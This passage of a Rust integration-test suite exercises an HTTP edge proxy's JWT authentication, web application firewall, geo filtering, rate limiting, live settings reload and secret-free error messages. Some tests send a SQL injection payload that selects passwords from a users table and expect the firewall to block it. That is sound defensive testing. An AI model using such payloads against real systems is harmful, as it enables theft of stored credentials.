            ("x-geo-country", "XX"),
        ];
        from(source, edge.web(), "POST", "/echo?page=1", &headers, body.as_bytes()).await
    };
    let order = json!({ "order": [1, 2, 3], "note": "ring twice, please" }).to_string();

    let passed = post(GERMANY, &authorization, &order).await;
    assert_eq!(passed.status, 200, "{}", passed.text());
    let echo = passed.json();
    assert_eq!(
        (echo["method"].as_str(), echo["query"].as_str(), echo["body"].as_str()),
        (Some("POST"), Some("page=1"), Some(order.as_str()))
    );
    assert_eq!(echoed(&passed, "x-user"), ["alice"]);
    assert_eq!(echoed(&passed, "x-geo-country"), ["DE"]);
    let variant = echoed(&passed, "x-ab-checkout");
    assert_eq!(passed.header("x-origin"), Some(origin_of(&variant[0])));
    assert_eq!(
        passed.header("set-cookie").map(|cookie| cookie.split_once(';').unwrap().0),
        Some(format!("ab-checkout={}", variant[0]).as_str())
    );
    assert_eq!((passed.header("x-country"), passed.header("ratelimit").is_some()), (Some("DE"), true));

    let attack = json!({ "note": "1' UNION SELECT password FROM users-- " }).to_string();
    assert_eq!(post(GERMANY, &authorization, &attack).await.status, 403);
    assert_eq!(post(GERMANY, "Bearer x", &order).await.status, 401);
    assert_eq!(post(JAPAN, &authorization, &order).await.status, 403);
    // What was refused before it came to the limit has not been counted.
    assert_eq!(post(AMERICA, &authorization, &order).await.status, 200);
    assert_eq!(post(AMERICA, &authorization, &order).await.status, 200);
    let limited = post(AMERICA, &authorization, &order).await;
    assert_eq!((limited.status, limited.header("retry-after").is_some()), (429, true));
    assert_eq!(limited.header("x-country"), Some("US"), "a reply passes the filters before it");
    let other = format!("Bearer {}", hs256(&with(&json!({ "sub": "bob" }))));
    assert_eq!(post(AMERICA, &other, &order).await.status, 200);
}

#[tokio::test(flavor = "multi_thread")]
async fn changed_settings_count_from_the_next_request() {
    const LATER: &str = "another secret, from now on, which is long enough";
    let next = next();
    let settings = |secret: &str, mode: &str, realm: &str| {
        filter("jwt-auth", &jwt(&json!({ "secret": secret, "realm": realm })))
            + &filter("waf", &json!({ "mode": mode }))
    };
    let routes = "{ name: all, filters: [waf, jwt-auth], to: demo }";
    let mut edge = node(&settings(SECRET, "block", "before"), routes, next.addr());
    let mut client = Client::connect(edge.web()).await;
    let later = mint(Algorithm::HS256, None, &claims(), &EncodingKey::from_secret(LATER.as_bytes()));
    let head = |path: &str, token: &str| format!("GET {path} HTTP/1.1\r\nhost: test\r\n{}\r\n", bearer(token));
    let attack = format!("/upstream?id={SQL}");

    assert_eq!(client.request(&head("/upstream", &hs256(&claims()))).await.status, 200);
    assert_eq!(client.request(&head("/upstream", &later)).await.status, 401);
    assert_eq!(client.request(&head(&attack, &hs256(&claims()))).await.status, 403);

    // A fault in the new settings changes nothing, and its report does not tell the secret.
    let fault = edge.reload(&yaml(&settings("too-short-a-secret", "block", "fault"), routes)).unwrap_err();
    assert!(fault.contains("jwt-auth") && !fault.contains("too-short-a-secret"), "{fault}");
    assert_eq!(client.request(&head("/upstream", &hs256(&claims()))).await.status, 200);

    edge.reload(&yaml(&settings(LATER, "detect", "after"), routes)).unwrap();
    let refused = client.request(&head("/upstream", &hs256(&claims()))).await;
    assert_eq!((refused.status, refused.header("www-authenticate").unwrap().contains("after")), (401, true));
    assert_eq!(client.request(&head("/upstream", &later)).await.status, 200, "on the same connection");
    assert_eq!(client.request(&head(&attack, &later)).await.status, 200);
}

#[tokio::test(flavor = "multi_thread")]
async fn no_error_tells_a_secret() {
    let folder = TempDir::new().unwrap();
    let file = |name: &str, text: &str| {
        let path = folder.path().join(name);
        std::fs::write(&path, text).unwrap();
        path
    };
    let short = file("short", "hunter2-hunter2\n");
    let long = file("long", "hunter2-hunter2-hunter2-hunter2-hunter2\n");
    let pem =
        file("pem", "-----BEGIN PRIVATE KEY-----\nhunter2hunter2hunter2hunter2hunter2\n-----END PRIVATE KEY-----\n");
    let broken = file("broken", "{\"keys\": [{\"kty\": \"oct\", \"k\": \"hunter2");
    let weak = file("weak", "{\"keys\": [{\"kty\": \"oct\", \"k\": \"hunter2\", \"hunter2\": 1}]}");
    for (why, config, told) in [
        ("too short", json!({ "secret": "hunter2" }), "secret"),
        ("too short, in a file", json!({ "secret_file": short }), "secret"),
        ("a private key", json!({ "secret_file": pem }), "secret"),
        ("for the wrong algorithm", json!({ "secret_file": long, "algorithms": ["ES256"] }), "algorithms"),
        ("both kinds of key", json!({ "secret_file": long, "jwks_file": weak }), "secret"),
        ("cut off", json!({ "jwks_file": broken }), "jwks"),
        ("no usable key", json!({ "jwks_file": weak }), "jwks"),
        ("a misspelt name", json!({ "secrets_file": long }), "secrets"),
        ("a file for something else", json!({ "secret_file": long, "leeway_file": short }), "leeway"),
        ("a file for a number", json!({ "secret_file": long, "cache_entries_file": short }), "jwt-auth"),
        ("a file for a word", json!({ "secret_file": long, "algorithms_file": short }), "jwt-auth"),
    ] {
        let text = yaml(&filter("jwt-auth", &config), "{ name: all, filters: [jwt-auth], to: demo }");
        let error = match Edge::try_start(&text, &[("next", SocketAddr::from(([127, 0, 0, 1], 9)))]) {
            Ok(_) => panic!("{why}: accepted"),
            Err(error) => format!("{error} {error:?}"),
        };
        assert!(error.contains(told), "{why}: {error}");
        assert!(!error.contains("hunter2"), "{why}: {error}");
    }
}
